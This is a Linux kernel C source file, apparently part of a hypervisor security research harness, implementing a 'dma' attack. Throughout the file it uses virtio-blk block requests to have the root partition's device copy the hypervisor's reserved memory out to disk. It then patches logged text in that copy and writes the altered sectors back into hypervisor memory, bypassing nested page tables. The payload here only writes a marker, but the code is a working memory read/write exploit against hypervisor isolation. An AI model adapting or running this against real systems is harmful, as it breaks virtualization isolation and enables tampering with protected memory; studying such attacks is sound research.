// SPDX-License-Identifier: GPL-2.0
/*
 * attack=dma: the root's devices reach all of physical memory.  The
 * hypervisor's nested page tables bind the root's CPU only; a virtio-blk
 * request names physical addresses that the device reads and writes
 * without them.  The block layer takes the hypervisor's pages as it takes
 * any page: the kernel has struct pages for the reserved region, as for
 * every hole inside its memory sections.
 */
#include "attack.h"

#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/gfp.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/string.h>
#include <linux/vmalloc.h>

#define SECTOR_BYTES 512
#define DMA_MARKER   "ATTACK-DMA WROTE HERE"
/* Where the patched sectors go on the disk: after the copy of the image. */
#define PATCH_SECTOR (IMAGE_SCAN_BYTES / SECTOR_BYTES)

/* One request of @len bytes at @page + @offset from or to @sector. */
static int transfer(struct block_device *bdev, blk_opf_t op, sector_t sector,
		    struct page *page, unsigned int len, unsigned int offset)
{
	struct bio *bio = bio_alloc(bdev, 1, op | REQ_SYNC, GFP_KERNEL);
	int err;

	bio->bi_iter.bi_sector = sector;
	if (bio_add_page(bio, page, len, offset) != len) {
		bio_put(bio);
		return -EIO;
	}
	err = submit_bio_wait(bio);
	bio_put(bio);
	return err;
}

static struct page *hv_page(const struct hv_region *hv, unsigned long offset)
{
	unsigned long pfn = PHYS_PFN(hv->base + offset);

	return pfn_valid(pfn) ? pfn_to_page(pfn) : NULL;
}

/* The device copies the hypervisor's first bytes to the disk's start. */
static int dma_out(struct block_device *bdev, const struct hv_region *hv)
{
	unsigned long off;
	int err;

	for (off = 0; off < IMAGE_SCAN_BYTES; off += PAGE_SIZE) {
		struct page *page = hv_page(hv, off);

		if (!page)
			return -EFAULT;
		err = transfer(bdev, REQ_OP_WRITE, off / SECTOR_BYTES, page,
			       PAGE_SIZE, 0);
		if (err)
			return err;
	}
	return 0;
}

/* Reads @bytes from the disk's start into @buf through @bounce. */
static int read_disk(struct block_device *bdev, u8 *buf, unsigned long bytes,
		     struct page *bounce)
{
	unsigned long off;
	int err;

	for (off = 0; off < bytes; off += PAGE_SIZE) {
		err = transfer(bdev, REQ_OP_READ, off / SECTOR_BYTES, bounce,
			       PAGE_SIZE, 0);
		if (err)
			return err;
		memcpy(buf + off, page_address(bounce), PAGE_SIZE);
	}
	return 0;
}

/*
 * The sectors holding the logged words get the marker on the disk, and
 * the device copies them back over the hypervisor's.
 */
static int dma_in(struct block_device *bdev, const struct hv_region *hv,
		  u8 *image, long at, struct page *bounce)
{
	unsigned long first = ALIGN_DOWN(at, SECTOR_BYTES);
	unsigned long end = ALIGN(at + strlen(LOGGED_WORDS), SECTOR_BYTES);
	unsigned long len = end - first;
	struct page *target = hv_page(hv, first);
	int err;

	if (!target || offset_in_page(first) + len > PAGE_SIZE)
		return -EFAULT;
	memcpy(image + at, DMA_MARKER, strlen(LOGGED_WORDS));
	memcpy(page_address(bounce), image + first, len);
	err = transfer(bdev, REQ_OP_WRITE, PATCH_SECTOR, bounce, len, 0);
	if (err)
		return err;
	return transfer(bdev, REQ_OP_READ, PATCH_SECTOR, target, len,
			offset_in_page(first));
}

static void attack_through(struct block_device *bdev,
			   const struct hv_region *hv, u8 *image,
			   struct page *bounce)
{
	long at;
	int err;

	err = dma_out(bdev, hv);
	if (!err)
		err = read_disk(bdev, image, IMAGE_SCAN_BYTES, bounce);
	if (err) {
		pr_info("dma-out FAIL err=%d\n", err);
		return;
	}
	at = find_logged_text(image, IMAGE_SCAN_BYTES);
	pr_info("dma-out hv-first=0x%llx logged-text-offset=0x%lx\n",
		*(u64 *)image, at);
	if (at < 0)
		return;
	err = dma_in(bdev, hv, image, at, bounce);
	pr_info("dma-in %s err=%d\n", err ? "FAIL" : "done", err);
	pr_info("cpu 0 vmrun %ld\n", vmrun_on_root_vp());
}

void attack_dma(const struct hv_region *hv, const char *disk)
{
	fmode_t mode = FMODE_READ | FMODE_WRITE;
	struct block_device *bdev = blkdev_get_by_path(disk, mode, NULL);
	struct page *bounce = alloc_page(GFP_KERNEL);
	u8 *image = vmalloc(IMAGE_SCAN_BYTES);

	if (IS_ERR(bdev) || !bounce || !image)
		pr_info("dma FAIL open %s: %ld\n", disk,
			IS_ERR(bdev) ? PTR_ERR(bdev) : -ENOMEM);
	else
		attack_through(bdev, hv, image, bounce);
	vfree(image);
	if (bounce)
		__free_page(bounce);
	if (!IS_ERR(bdev))
		blkdev_put(bdev, mode);
}
